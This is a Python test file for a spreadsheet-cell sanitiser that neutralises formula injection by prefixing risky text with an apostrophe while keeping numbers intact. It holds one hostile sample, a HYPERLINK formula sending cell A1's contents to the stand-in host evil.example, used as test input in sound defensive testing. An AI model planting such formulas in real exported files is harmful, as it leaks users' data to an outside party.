"""common.spreadsheets: text that would start a formula is written as text; numbers stay numbers."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from common.spreadsheets import spreadsheet_cell, spreadsheet_row

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"x")'


@pytest.mark.parametrize("text", [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=", "-"])
def test_formula_starts_get_an_apostrophe(text):
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Tuyên truyền phòng chống bão số 3", " =1+1", "1=1", "", None, 0, -5, -1.5,
                                   Decimal("-2.25"), date(2027, 12, 2), True])
def test_other_values_pass_unchanged(value):
    assert spreadsheet_cell(value) == value and type(spreadsheet_cell(value)) is type(value)


def test_control_characters_xlsx_cannot_hold_are_dropped():
    assert spreadsheet_cell("Bản\x00 tin\x07\x1f") == "Bản tin"
    assert spreadsheet_cell("\x01=1+1") == "'=1+1"  # what is left decides
    assert spreadsheet_cell("dòng 1\ndòng 2") == "dòng 1\ndòng 2"


def test_in_a_workbook_and_a_csv_file():
    row = spreadsheet_row([HYPERLINK, -5, Decimal("-1.5"), "-5", "Hà Nội"])
    book = Workbook()
    book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    cells = next(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows())
    assert [c.data_type for c in cells] == ["s", "n", "n", "s", "s"]
    assert [c.value for c in cells] == ["'" + HYPERLINK, -5, -1.5, "'-5", "Hà Nội"]
    text = io.StringIO()
    csv.writer(text).writerow(row)
    assert next(csv.reader(io.StringIO(text.getvalue()))) == ["'" + HYPERLINK, "-5", "-1.5", "'-5", "Hà Nội"]
